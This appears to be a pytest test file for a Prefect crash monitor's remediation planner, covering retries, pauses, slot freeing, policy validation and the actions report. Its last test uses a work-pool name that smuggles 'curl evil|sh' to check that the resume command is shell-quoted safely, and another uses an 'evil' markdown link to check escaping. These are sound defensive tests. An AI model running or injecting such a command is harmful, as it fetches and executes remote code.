"""Which acts are decided, and why the others are not: tables, and properties of whole histories."""

from __future__ import annotations

import shlex
from collections import Counter
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.simulator import MINUTE, NOON, crash

from prefect_crash_monitor.config.actions import MAY_BE_RETRIED, WORTH_A_RETRY, Mode, RetryRule
from prefect_crash_monitor.config.parse_policy import parse_policy
from prefect_crash_monitor.config.policy import Policy
from prefect_crash_monitor.errors import BadInput
from prefect_crash_monitor.explain import CAUSES
from prefect_crash_monitor.model.codec import each_of, to_json
from prefect_crash_monitor.model.crash import Crash, Diagnosis, Fate
from prefect_crash_monitor.model.incident import Incident
from prefect_crash_monitor.remediate.action import REMEMBERED, Act, ActKind, Result, remember
from prefect_crash_monitor.remediate.plan import PROCESS_GONE, Knowledge, Reason, plan_acts
from prefect_crash_monitor.remediate.slots import HeldSlot
from prefect_crash_monitor.report.actions import acts_section

RETRY = {"mode": "act", "only": {"deployment": "etl/*"}, "at_most": 2, "backoff": 120}
EVICTED = Diagnosis(cause="k8s-evicted", confidence="high", fingerprint="v1-evicted")
STILL, ACT = Fate.STILL_CRASHED, Mode.ACT


def policy(**actions: Any) -> Policy:
    """A policy with these actions."""
    return parse_policy({"actions": actions})


def known(*crashes: Crash, minute: float = 10, **more: Any) -> Knowledge:
    """Crashes by eviction, still crashed, as seen some minutes after noon."""
    values: dict[str, Any] = {
        "policy": policy(retry=RETRY),
        "now": NOON + minute * MINUTE,
        "crashes": crashes,
        "fates": {c.state_id: STILL for c in crashes},
        "diagnoses": {c.state_id: EVICTED for c in crashes},
    }
    return Knowledge(**{**values, **more})


def past_retry(of: Crash, result: Result = Result.DONE, **more: Any) -> Act:
    """A retry of the run of a crash, for an earlier crash of it."""
    values: dict[str, Any] = {
        "id": f"retry-of-{of.at.isoformat()}-{result}",
        "kind": ActKind.RETRIED,
        "mode": ACT,
        "at": NOON,
        "target": of.flow_run_id,
        "target_type": "flow-run",
        "name": of.flow_run_name,
        "why": "k8s-evicted",
        "result": result,
    }
    return Act(**{**values, **more})


ONE = crash(0)


def test_a_crash_of_a_passing_cause_is_retried_once():
    """The act says which run, which crash of it, why, and that it is the first retry."""
    first = plan_acts(known(ONE))
    again = plan_acts(known(ONE, past=first.acts))

    (act,) = first.acts
    assert (act.kind, act.mode, act.target, act.detail) == ("retried", "act", *ids(ONE))
    assert (act.why, act.number, act.result, act.undo) == ("k8s-evicted", 1, "pending", "")
    assert again.acts == ()
    assert again.left == {Reason.DECIDED: 1}


def ids(of: Crash) -> tuple[str, str]:
    """Of the run and of the crash."""
    return of.flow_run_id, of.state_id


@pytest.mark.parametrize(
    ("reason", "case"),
    [
        (Reason.MOVED_ON, known(ONE, fates={ONE.state_id: Fate.RECOVERED})),
        (Reason.MOVED_ON, known(ONE, fates={ONE.state_id: Fate.SUPERSEDED})),
        (Reason.MOVED_ON, known(ONE, fates={ONE.state_id: Fate.DELETED})),
        (Reason.MOVED_ON, known(ONE, fates={})),
        (Reason.IN_PROCESS, known(replace(ONE, in_process=True))),
        (Reason.NO_DEPLOYMENT, known(replace(ONE, deployment_id=""))),
        (Reason.TOO_OLD, known(ONE, minute=120)),
        (Reason.SILENCED, known(ONE, silenced=frozenset({ONE.state_id}))),
        (Reason.CAUSE, known(ONE, diagnoses={})),
        (Reason.CAUSE, known(ONE, diagnoses={ONE.state_id: replace(EVICTED, cause="unknown")})),
        (Reason.UNSURE, known(ONE, diagnoses={ONE.state_id: replace(EVICTED, confidence="low")})),
        (
            Reason.USED_UP,
            known(ONE, past=[past_retry(ONE), past_retry(ONE, Result.FAILED)]),
        ),
        (Reason.WAITING, known(ONE, minute=1.9)),
        (Reason.WAITING, known(ONE, minute=3.9, past=[past_retry(ONE)])),
    ],
)
def test_a_crash_is_left_alone_for_a_reason(reason, case):
    """Each reason why a chosen crash is not retried, and nothing is done."""
    plan = plan_acts(case)

    assert (plan.acts, plan.left) == ((), {reason: 1})


@pytest.mark.parametrize(
    "case",
    [
        known(ONE, minute=2),
        known(ONE, minute=4, past=[past_retry(ONE)]),
        known(ONE, minute=119.9),
        known(ONE, past=[past_retry(ONE), past_retry(ONE, Result.LEFT)]),
        known(ONE, past=[past_retry(ONE, mode=Mode.DRY_RUN, id=n) for n in "abc"]),
    ],
)
def test_at_the_edge_of_a_reason_it_is_retried(case):
    """At the end of the backoff; what was left or only played does not count as a retry."""
    assert [act.target for act in plan_acts(case).acts] == [ONE.flow_run_id]


def test_what_is_not_chosen_is_not_even_mentioned():
    """Neither other deployments, nor anything while it is off."""
    other = crash(0, "billing/daily")

    assert plan_acts(known(other)).left == {}
    assert plan_acts(known(ONE, policy=Policy())) == plan_acts(known())


def test_more_than_a_cycles_worth_waits():
    """The oldest first, the rest in the next cycle."""
    crashes = [crash(minute / 10) for minute in range(7)]
    plan = plan_acts(known(*reversed(crashes)))
    rest = plan_acts(known(*crashes, past=plan.acts))

    assert [act.target for act in plan.acts] == [c.flow_run_id for c in crashes[:5]]
    assert plan.left == {Reason.TOO_MANY: 2}
    assert [act.target for act in rest.acts] == [c.flow_run_id for c in crashes[5:]]


STORM = Incident(
    id="abc",
    episode=2,
    rule="crash-storm",
    scope="everything",
    group="",
    severity="critical",
    opened_at=NOON,
    first_crash_at=NOON,
    last_crash_at=NOON,
    burning_until=NOON + 30 * MINUTE,
    crashes=12,
    deployments={"etl/daily": 9, "etl/hourly": 2, "gone/away": 5},
    work_pools={"pool": 12},
)


def test_a_storm_pauses_what_crashes_most_once():
    """Not what was hit twice, nor what cannot be named; not again, though a person resumed it."""
    case = known(ONE, policy=policy(pause={"mode": "act"}), incidents=[STORM])
    plan = plan_acts(case)

    assert [(a.target, a.target_type, a.name, a.why) for a in plan.acts] == [
        ("etl/daily", "deployment", "etl/daily", "abc.2")
    ]
    assert plan.acts[0].undo == "prefect api POST /deployments/etl/daily/resume_deployment"
    assert plan_acts(replace(case, past=plan.acts)).acts == ()
    reopened = replace(STORM, episode=3)
    assert len(plan_acts(replace(case, past=plan.acts, incidents=[reopened])).acts) == 1


def test_a_pool_is_paused_by_its_name():
    """Where the policy says so; the command to resume it can be pasted."""
    rules = policy(pause={"mode": "dry_run", "what": "work-pool"})
    (act,) = plan_acts(known(ONE, policy=rules, incidents=[STORM])).acts

    assert (act.mode, act.target_type, act.target) == ("dry_run", "work-pool", "pool")
    assert act.undo == "prefect work-pool resume pool"


@pytest.mark.parametrize(
    "change",
    [
        {"rule": "deployment-crashes"},
        {"burning_until": NOON + 10 * MINUTE},
        {"deployments": {"etl/daily": 2}},
    ],
)
def test_a_lesser_incident_pauses_nothing(change):
    """Of another rule, over already, or with too few crashes of one deployment."""
    rules = policy(pause={"mode": "act"})

    assert plan_acts(known(ONE, policy=rules, incidents=[replace(STORM, **change)])).acts == ()


def test_what_is_paused_is_not_retried():
    """Not in the same breath."""
    rules = policy(pause={"mode": "act"}, retry=RETRY)
    plan = plan_acts(known(ONE, policy=rules, incidents=[STORM]))

    assert [act.kind for act in plan.acts] == [ActKind.PAUSED]
    assert plan.left == {Reason.PAUSED: 1}


SLOT = HeldSlot(tag="db", task_run_id="task", flow_run_id=ONE.flow_run_id)


@pytest.mark.parametrize(
    ("freed", "left", "change"),
    [
        (["task"], {}, {}),
        ([], {}, {"now": NOON + 9 * MINUTE}),
        ([], {}, {"fates": {ONE.state_id: Fate.RECOVERED}}),
        ([], {}, {"held": [replace(SLOT, flow_run_id="another")]}),
        ([], {}, {"policy": Policy()}),
        (
            [],
            {Reason.UNOBSERVABLE: 1},
            {"diagnoses": {ONE.state_id: replace(EVICTED, cause="zombie-marked")}},
        ),
    ],
)
def test_only_a_slot_of_a_run_that_is_surely_gone_is_freed(freed, left, change):
    """A holder whose process may be alive keeps its slot, and the report says so."""
    case = known(ONE, policy=policy(free_slots={"mode": "act"}), held=[SLOT])
    plan = plan_acts(replace(case, **change))

    assert [act.target for act in plan.acts] == freed
    assert plan.left == left


@pytest.mark.parametrize(
    ("actions", "message"),
    [
        ({"retry": {"mode": "act"}}, "needs `only` with a deployment, flow, work_pool or tag"),
        ({"retry": {"mode": "dry_run", "only": {"cause": "*"}}}, "needs `only`"),
        ({"retry": {"causes": ["user-exception"]}}, "no sense for user-exception"),
        ({"retry": {"causes": ["zombie-marked"]}}, "no sense for zombie-marked"),
        ({"retry": {"at_most": 10, "backoff": 600}}, "raise it, or lower backoff or at_most"),
        ({"retry": {"at_most": 0}}, "actions.retry.at_most: Input should be greater"),
        ({"retry": {"at_most": 11}}, "actions.retry.at_most: Input should be less"),
        ({"retry": {"mode": "on"}}, "actions.retry.mode: Input should be"),
        ({"pause": {"crashs": 3}}, "actions.pause.crashs: Extra inputs"),
        ({"pause": {"mode": "act", "rules": ["strom"]}}, "no rule is called strom"),
        ({"at_most_per_cycle": 51}, "actions.at_most_per_cycle: Input should be less"),
    ],
)
def test_what_cannot_be_meant_is_refused(actions, message):
    """With the field and the way out."""
    with pytest.raises(BadInput, match="The policy cannot be used") as refused:
        parse_policy({"actions": actions})

    assert message in str(refused.value)


def test_everything_is_off_by_default():
    """A policy that says nothing of actions acts nowhere, and reads no more history."""
    actions = Policy().actions

    assert {actions.retry.mode, actions.pause.mode, actions.free_slots.mode} == {Mode.OFF}
    assert policy(retry=RETRY).lookback == timedelta(hours=2)
    assert Policy().lookback < timedelta(hours=2)


def test_causes_that_rules_name_exist():
    """Slugs are never renamed, but may be mistyped."""
    assert set(CAUSES) >= MAY_BE_RETRIED | PROCESS_GONE
    assert set(WORTH_A_RETRY) < MAY_BE_RETRIED


def test_acts_come_back_from_the_ledger():
    """As they were; the newest are kept."""
    acts = [past_retry(ONE, id=f"{n}", at=NOON + n * MINUTE) for n in range(REMEMBERED + 1)]

    assert each_of(Act, [to_json(Act, act) for act in acts]) == (tuple(acts), 0)
    assert remember(acts[:-1], acts[1:]) == tuple(acts[1:])
    done = replace(acts[5], result=Result.DONE)
    assert remember(acts[:9], [done]) == (*acts[:5], done, *acts[6:9])


def test_the_report_tells_each_act_and_keeps_strangers_text_inert():
    """What was done, would be, is being done, was left; how to resume; why others wait."""
    pause = past_retry(
        ONE,
        kind=ActKind.PAUSED,
        target_type="deployment",
        target="d-1",
        name="etl/![x](https://evil)",
        why="abc.1",
    )
    acts = [
        past_retry(ONE, at=NOON - timedelta(days=2), name="long ago"),
        past_retry(ONE, name="owl", number=2),
        past_retry(ONE, Result.LEFT, name="elk", remark="the run has moved on"),
        past_retry(ONE, Result.WOULD, name="fox", mode=Mode.DRY_RUN),
        past_retry(ONE, Result.PENDING, name="bee"),
        pause,
    ]
    left = {Reason.MOVED_ON: 7, Reason.WAITING: 2}
    lines = acts_section(acts, left, as_of=NOON + MINUTE, ui_url="").splitlines()

    at = "2026-11-24 12:00:00 UTC:"
    assert lines == [
        "## Actions",
        "",
        f"- {at} **paused** deployment etl/!\\[x\\](https:\\//evil) (abc.1); to resume it: "
        "`prefect api POST /deployments/d-1/resume_deployment`",
        f"- {at} **retrying** flow run bee (k8s-evicted, retry 1)",
        f"- {at} would retry flow run fox (k8s-evicted, retry 1)",
        f"- {at} did not retry flow run elk (k8s-evicted, retry 1): the run has moved on",
        f"- {at} **retried** flow run owl (k8s-evicted, retry 2)",
        "- Left alone: 2 × waits for its backoff.",
    ]
    assert acts_section([], {Reason.MOVED_ON: 7}, as_of=NOON, ui_url="") == ""


RULES = st.builds(
    lambda at_most, backoff, mode: {
        "mode": mode,
        "only": {"deployment": "*"},
        "at_most": at_most,
        "backoff": backoff,
        "give_up_after": 86_400,
    },
    at_most=st.integers(1, 5),
    backoff=st.integers(10, 1_200),
    mode=st.sampled_from(["off", "dry_run", "act"]),
)
GAPS = st.lists(st.floats(0.2, 30), min_size=1, max_size=40)


@given(rule=RULES, gaps=GAPS, heals=st.lists(st.booleans(), min_size=40, max_size=40))
def test_never_more_often_never_earlier_never_when_off(rule, gaps, heals):
    """A run that crashes a minute after each retry, or moves on by itself; cycles at any time."""
    actions = policy(retry=rule)
    retry: RetryRule = actions.actions.retry
    past: tuple[Act, ...] = ()
    latest, minute, retried_at = crash(0), 0.0, list[tuple[Crash, Act]]()
    for gap, heal in zip(gaps, heals, strict=False):
        minute += gap
        fates = {latest.state_id: Fate.RECOVERED if heal else STILL}
        plan = plan_acts(known(latest, policy=actions, minute=minute, past=past, fates=fates))
        past = remember(past, plan.acts)
        retried_at += [(latest, act) for act in plan.acts]
        if plan.acts and retry.mode is ACT:
            minute += 1
            latest = crash(minute, flow_run_id=latest.flow_run_id)

    assert len(retried_at) <= retry.at_most
    assert retry.mode is not Mode.OFF or not retried_at
    assert max(Counter(c.state_id for c, _ in retried_at).values(), default=0) <= 1
    for number, (crashed, act) in enumerate(retried_at):
        assert act.at >= crashed.at + retry.backoff * 2**number
        assert act.number == number + 1


def test_the_command_that_takes_a_pause_back_is_safe_to_paste():
    """A pool may be called anything but a few signs; people copy the command into a shell."""
    pool = "it's; curl evil|sh; '"
    paused = Act(
        id="p",
        kind=ActKind.PAUSED,
        mode=ACT,
        at=NOON,
        target=pool,
        target_type="work-pool",
        name=pool,
        why="",
    )

    assert shlex.split(paused.undo) == ["prefect", "work-pool", "resume", pool]
